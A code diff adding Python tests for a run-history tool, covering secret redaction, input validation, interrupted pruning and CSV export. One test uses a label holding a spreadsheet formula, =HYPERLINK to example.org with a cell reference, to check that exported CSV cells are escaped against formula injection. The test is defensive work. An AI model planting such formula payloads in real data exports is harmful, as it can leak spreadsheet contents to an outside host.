@@ -6,11 +6,12 @@ import csv
 import io
 import json
 import os
+import shutil
 import sqlite3
 import sys
 import time
 from contextlib import closing
-from datetime import UTC, datetime
+from datetime import UTC, date, datetime, timedelta
 from pathlib import Path
 from typing import Any, Final
 
@@ -30,7 +31,9 @@ from cc_executor.runtime.past import History, history, when
 from cc_executor.runtime.plan import Plan
 from cc_executor.runtime.retention import plan_pruning, prune
 from cc_executor.runtime.run import Run
+from cc_executor.runtime.summary import summary
 from cc_executor.runtime.verification import Verdict, verify
+from cc_executor.shim import records
 from cc_executor.store.history import DAMAGED, FILE, HistoryIndex, Trouble, transaction
 from cc_executor.store.home import StateHome
 from cc_executor.store.tasklists import ListHome
@@ -177,6 +180,13 @@ def test_no_secret_and_no_more_than_a_line_of_a_prompt_gets_in(home: StateHome, 
         assert word.encode() not in data
     assert prompt_line("a" * 300, Redactor()) == "a" * 80
     assert prompt_line("\n\n \x1b[31mred\x07\n", Redactor()) == "red"
+    assert prompt_line(f"{SECRET[:20]}\x1b[31m{SECRET[20:]}", Redactor()) == MASK, "grep --color marks what it has found"
+
+
+def test_in_a_list_of_runs_the_prompt_is_masked_before_it_is_cut(home: StateHome) -> None:
+    receipt = shell(f"#{'x' * 60} {SECRET}", label=SECRET)
+    row = summary(home.folder(receipt.run_id), now=time.time(), mask=Redactor().text)
+    assert (row.label, row.prompt) == (MASK, f"#{'x' * 60} {MASK}")
 
 
 async def test_runs_of_a_list_know_it(home: StateHome, tmp_path: Path) -> None:
@@ -276,12 +286,32 @@ def test_times_and_filters_as_people_write_them() -> None:
         ({"since": "soon"}, "is no time"),
         ({"outcome": "good"}, "There is no outcome"),
         ({"limit": 0}, "1 or more"),
+        ({"limit": 10**20}, "leave it out for all"),
+        ({"limit": 2.5}, "leave it out for all"),
+        ({"limit": "5"}, "leave it out for all"),
+        ({"since": float("inf")}, "is no time"),
+        ({"until": float("nan")}, "is no time"),
+        ({"since": 10**400}, "is no time"),
+        ({"since": date(1, 1, 1)}, "is no time"),
+        ({"since": timedelta(days=7)}, "is no time"),
+        ({"label": ["a", "b"]}, "label must be a text"),
+        ({"text": "x" * 100_000}, "text must be"),
+        ({"cwd": 5}, "cwd must be"),
     ]
     for wrong, complaint in refused:
         with pytest.raises(InvalidRequest, match=complaint):
             history(**wrong)
+    assert len(history(text="\ud800")) == 0, "half a pair of surrogates is in no text"
     with pytest.raises(InvalidRequest, match="no filter 'colour'"):
         history(colour="red")
+
+
+def test_no_cell_of_a_csv_is_a_formula(tmp_path: Path) -> None:
+    shell("true", cwd=tmp_path, label='=HYPERLINK("http://example.org/"&A1)')
+    shell("true", cwd=tmp_path, label="-1 day")
+    (table,) = [list(csv.DictReader(io.StringIO(history().to_csv(), newline="")))]
+    assert [row["label"] for row in table] == ["'-1 day", '\'=HYPERLINK("http://example.org/"&A1)']
+    assert [row.label for row in history()] == ["-1 day", '=HYPERLINK("http://example.org/"&A1)'], "in CSV alone"
 
 
 # --- retention -------------------------------------------------------------------------------------------------------------
@@ -336,6 +366,34 @@ async def test_a_list_keeps_what_it_was_made_of(home: StateHome, tmp_path: Path)
     assert listed.result("a").text.strip() == "made"
     assert history()[0].list_id == listed.list_id
     assert ListHome(home).find(listed.list_id).state().status.value == "ok"
+
+
+def test_who_is_killed_while_a_whole_run_goes_leaves_no_run_without_its_receipt(home: StateHome, monkeypatch: pytest.MonkeyPatch) -> None:
+    """It would be sealed again by whoever looks at it next, over a journal that is gone, and be a run that failed."""
+    gone = shell("echo said")
+    planned = plan_pruning(home, environ=os.environ, keep=0, whole=True)
+
+    def killed(path: Path, **_: object) -> None:
+        (path / records.RECEIPT).unlink()  # the first file that goes, as it may be
+        raise KeyboardInterrupt
+
+    with monkeypatch.context() as patch:
+        patch.setattr(shutil, "rmtree", killed)
+        with pytest.raises(KeyboardInterrupt):
+            prune(home, planned, environ=os.environ, now=time.time())
+    assert list(home.runs()) == []
+    assert ids(history()) == []
+    prune(home, plan_pruning(home, environ=os.environ, keep=0), environ=os.environ, now=time.time())
+    assert list(home.runs_path.iterdir()) == [], f"the rest of {gone.run_id} goes with the next pruning"
+
+
+async def test_a_run_that_was_away_for_a_while_is_of_its_list_again(home: StateHome, tmp_path: Path) -> None:
+    listed = await cc_execute_list([{"id": "a", "run": "true"}], cwd=tmp_path)
+    (row,) = history(list_id=listed.list_id)
+    away = home.folder(row.run_id).path.rename(tmp_path / "away")
+    assert ids(history()) == []
+    away.rename(home.folder(row.run_id).path)
+    assert [(row.list_id, row.task_id) for row in history()] == [(listed.list_id, "a")]
 
 
 async def test_a_run_that_goes_on_is_not_pruned(home: StateHome, tmp_path: Path) -> None:
